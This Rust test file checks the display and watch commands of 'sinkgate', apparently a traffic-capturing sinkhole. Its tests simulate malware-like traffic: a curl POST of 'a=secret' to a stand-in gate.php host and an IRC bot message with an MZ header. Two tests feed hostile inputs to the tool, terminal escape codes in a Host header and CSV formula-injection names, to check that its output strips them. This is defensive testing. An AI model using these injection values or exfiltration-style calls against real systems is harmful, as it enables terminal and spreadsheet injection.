//! `sinkgate show` and `sinkgate watch`: what was recorded, filtered, in every form.

#![expect(clippy::unwrap_used, reason = "a failure here is a failed test")]

use serde_json::{Value, json};
use testkit::programs::{are_installed, python, run, start};
use testkit::{Gateway, Shell, wait_until};

const SINKGATE: &str = env!("CARGO_BIN_EXE_sinkgate");

/// A gateway at which something of each kind has happened.
fn visited() -> Option<Gateway> {
    let gateway = Gateway::start(SINKGATE, &["curl", "dig"], &[])?;
    for question in ["www.example.com", "mail.example.com", "elsewhere.example"] {
        let outcome = run(&gateway.network.victim, "dig", &["@8.8.8.8", "+short", question]);
        assert!(outcome.status.success(), "{outcome:?}");
    }
    let post = ["-sS", "--max-time", "20", "-d", "a=secret", "http://203.0.113.9:8080/gate.php"];
    assert!(run(&gateway.network.victim, "curl", &post).status.success());
    python(
        &gateway.network.victim,
        r"
import socket
s = socket.create_connection(('2001:db8::7', 6667)); s.sendall(b'MZ\x90\x00NICK \x1b[31mbot\r\n')
s.shutdown(socket.SHUT_WR)
while s.recv(9): pass
",
    );
    let ended = json!([{"flows": 2}]);
    gateway.database.expect(
        "SELECT count(*) AS flows FROM flow_end JOIN flow ON flow.seq = flow_end.flow
         WHERE transport = 6",
        &ended,
    );
    Some(gateway)
}

fn objects(gateway: &Gateway, arguments: &[&str]) -> Vec<Value> {
    let lines = gateway.show(&[arguments, &["--json"]].concat());
    lines.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

#[test]
#[ignore = "end to end: needs root"]
fn filters_choose_rows() {
    let Some(gateway) = visited() else { return };
    let flows = |filter: &[&str]| -> Vec<u64> {
        let rows = objects(&gateway, &[&["flows"], filter].concat());
        let mut ports: Vec<u64> =
            rows.iter().map(|row| row["orig_dst_port"].as_u64().unwrap()).collect();
        ports.dedup();
        ports
    };
    assert_eq!(flows(&[]), [53, 8080, 6667]);
    assert_eq!(flows(&["--port", "8080"]), [8080]);
    assert_eq!(flows(&["--proto", "http"]), [8080]);
    assert_eq!(flows(&["--proto", "tcp"]), [8080, 6667]);
    assert_eq!(flows(&["--proto", "dns"]), [53]);
    assert_eq!(flows(&["--victim", "fd66::2"]), [6667]);
    assert_eq!(flows(&["--grep", "secret"]), [8080]);
    assert_eq!(flows(&["--grep", "hex:4d5a9000"]), [6667]);
    assert_eq!(flows(&["--since", "1h"]), [53, 8080, 6667]);
    assert_eq!(flows(&["--since", "2100-01-01"]), [0_u64; 0]);
    assert_eq!(flows(&["--limit", "1"]), [6667]);
    assert_eq!(flows(&["--run", "ffffffff"]), [0_u64; 0]);
    let id =
        objects(&gateway, &["flows", "--port", "6667"])[0]["flow"].as_str().unwrap().to_owned();
    assert_eq!(flows(&["--flow", &id]), [6667]);
    let asked = |name: &str| objects(&gateway, &["dns", "--name", name]).len();
    assert_eq!((asked("*.example.com"), asked("www.example.com"), asked("no.*")), (2, 1, 0));
}

#[test]
#[ignore = "end to end: needs root"]
fn every_kind_has_json_csv_and_a_table() {
    let Some(gateway) = visited() else { return };
    for what in ["runs", "flows", "dns", "data", "events", "counters"] {
        let rows = objects(&gateway, &[what]);
        assert!(!rows.is_empty(), "{what}");
        let csv = gateway.show(&[what, "--csv"]);
        let file = gateway.folder.written("shown.csv", &csv);
        let script = format!(
            "import csv
rows = list(csv.DictReader(open('{}', newline=''), strict=True))
assert all(None not in row and None not in row.values() for row in rows), rows
print(len(rows))",
            file.display()
        );
        let read = python(&gateway.network.gateway, &script);
        assert_eq!(read.trim(), rows.len().to_string(), "{what}: {csv}");
        assert!(gateway.show(&[what]).lines().count() > 1, "{what}");
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn rows_say_what_happened() {
    let Some(gateway) = visited() else { return };
    let flow = &objects(&gateway, &["flows", "--port", "6667"])[0];
    let expected = json!({
        "transport": "tcp", "victim": "fd66::2", "orig_dst": "2001:db8::7", "orig_dst_port": 6667,
        "protocol": null, "bytes_from_victim": 19, "bytes_to_victim": 0, "ending": "finished",
    });
    for (key, value) in expected.as_object().unwrap() {
        assert_eq!(flow[key], *value, "{key} in {flow}");
    }
    let question = &objects(&gateway, &["dns", "--name", "www.example.com"])[0];
    assert_eq!((&question["type"], &question["response_code"]), (&json!("A"), &json!(0)));
    assert_eq!(question["answers"].as_array().unwrap().len(), 1, "{question}");
    let events = objects(&gateway, &["events", "--port", "8080"]);
    let request = events.iter().find(|event| event["kind"] == "http.request").unwrap();
    assert_eq!(request["details"]["method"], "POST", "{request}");
    let data = &objects(&gateway, &["data", "--port", "6667"])[0];
    assert_eq!(data["bytes"], "4d5a90004e49434b201b5b33316d626f740d0a", "{data}");
    assert_eq!(data["direction"], "from-victim");
}

#[test]
#[ignore = "end to end: needs root"]
fn data_is_shown_as_a_hex_dump_and_as_text() {
    let Some(gateway) = visited() else { return };
    let dump = gateway.show(&["data", "--port", "6667"]);
    assert!(dump.contains("4d 5a 90 00 4e 49 43 4b  20 1b 5b 33 31 6d 62 6f"), "{dump}");
    assert!(dump.contains("|MZ..NICK .[31mbo|"), "{dump}");
    let text = gateway.show(&["data", "--port", "8080", "--text"]);
    assert!(text.contains("POST /gate.php HTTP/1.1"), "{text}");
    assert!(text.contains("a=secret"), "{text}");
}

#[test]
#[ignore = "end to end: needs root"]
fn threat_10_no_form_lets_control_codes_through() {
    let Some(gateway) = visited() else { return };
    let host =
        ["-sS", "--max-time", "20", "-H", "Host: a\u{1b}[2Jb", "http://203.0.113.9:81/\u{7}"];
    let _ = run(&gateway.network.victim, "curl", &host);
    for what in ["runs", "flows", "dns", "data", "events", "counters"] {
        for form in ["", "--json", "--csv", "--text", "--hex"] {
            let form: &[&str] = if form.is_empty() { &[] } else { &[form] };
            let shown = gateway.show(&[&[what], form].concat());
            let is_control = |letter: char| letter.is_control() && !"\r\n\t".contains(letter);
            assert!(!shown.contains(is_control), "{what} {form:?}: {shown:?}");
        }
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn threat_11_no_cell_of_a_csv_is_a_formula() {
    let Some(gateway) = visited() else { return };
    for name in ["=cmd.example", "@sum.example", "-1.example", "+1.example"] {
        let outcome = run(&gateway.network.victim, "dig", &["@8.8.8.8", "+short", "-q", name]);
        assert!(outcome.status.success(), "{outcome:?}");
    }
    python(
        &gateway.network.victim,
        "import socket
s = socket.create_connection(('203.0.113.9', 9100)); s.sendall(b'=HYPERLINK()'); s.close()",
    );
    gateway.database.expect(
        "SELECT count(*) AS rows FROM payload WHERE CAST(bytes AS TEXT) LIKE '=HYP%'",
        &json!([{"rows": 1}]),
    );
    for what in ["flows", "dns", "data", "events"] {
        let file = gateway.folder.written("shown.csv", gateway.show(&[what, "--csv"]));
        let script = format!(
            "import csv
for row in csv.reader(open('{}', newline='')):
    for cell in row: assert cell[:1] not in list('=+-@'), row",
            file.display()
        );
        python(&gateway.network.gateway, &script);
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn watch_prints_a_new_flow() {
    let Some(gateway) = Gateway::start(SINKGATE, &["nc"], &[]) else { return };
    gateway.network.victim.shell("nc -z -w 5 203.0.113.9 1111");
    gateway.database.expect("SELECT count(*) AS ends FROM flow_end", &json!([{"ends": 1}]));
    let seen = gateway.folder.file("seen");
    let database = gateway.database.path().to_str().unwrap();
    let line =
        format!("exec {SINKGATE} watch --db {database} --json --proto tcp > {}", seen.display());
    let _watching = start(&gateway.network.gateway, "sh", &["-c", &line]);
    let has_seen = |port: &str| std::fs::read_to_string(&seen).unwrap_or_default().contains(port);
    // It may take a moment until it looks: what it shows is what happens from then on.
    wait_until("it shows a new flow", || {
        gateway.network.victim.shell("nc -z -w 5 2001:db8::7 2222");
        has_seen("2222")
    });
    assert!(!has_seen("1111"), "what was there before it began is not new");
    let lines = std::fs::read_to_string(&seen).unwrap();
    let complete = lines.rsplit_once('\n').map_or("", |(complete, _)| complete);
    for line in complete.lines() {
        assert!(serde_json::from_str::<Value>(line).unwrap().is_object(), "{line}");
    }
}

#[test]
#[ignore = "end to end: needs root"]
fn a_pipe_that_closes_is_no_failure() {
    let Some(gateway) = visited() else { return };
    if !are_installed(&["bash", "head"]) {
        return;
    }
    let database = gateway.database.path().display();
    let script = format!(
        "set -o pipefail; for i in 1 2 3; do {SINKGATE} show data --db {database} | head -n 1; done"
    );
    let outcome = run(&gateway.network.gateway, "bash", &["-c", &script]);
    assert!(outcome.status.success(), "{outcome:?}");
    assert_eq!(outcome.stderr, "");
}

#[test]
#[ignore = "end to end: needs root"]
fn a_database_that_is_not_there_is_named() {
    let Some(gateway) = Gateway::prepare(SINKGATE, &[], &[]) else { return };
    let missing = gateway.run(&["show", "flows", "--db", "/no/such/file.db"]);
    assert!(!missing.status.success(), "{missing:?}");
    assert!(missing.stderr.contains("/no/such/file.db"), "{missing:?}");
    let file = gateway.folder.written("text.db", "this is no database, but long enough for one\n");
    let other = gateway.run(&["show", "flows", "--db", file.to_str().unwrap()]);
    assert!(!other.status.success(), "{other:?}");
    assert!(other.stderr.contains("text.db"), "{other:?}");
}
